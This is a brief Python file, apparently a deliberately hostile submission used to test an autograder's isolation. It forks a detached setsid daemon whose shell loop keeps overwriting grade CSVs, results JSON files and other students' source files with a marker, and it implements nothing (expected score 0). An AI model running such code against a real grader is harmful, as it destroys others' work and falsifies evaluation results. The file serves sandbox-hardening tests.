"""Hostile: a setsid daemon that outlives grading and rewrites every grades file it can find, every
results JSON and the other students' sources. Implements nothing: expected 0."""
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/usr/bin/sh", ["sh", "-c", f"while :; do for f in {OUT}/*.csv {OUT}/*/*.json {SUBMISSIONS}/*.py; "
                 f"do echo '{MARK}' > \"$f\"; done; sleep 0.2; done; exit 0 # {MARK}"])
    os._exit(0)
time.sleep(0.2)
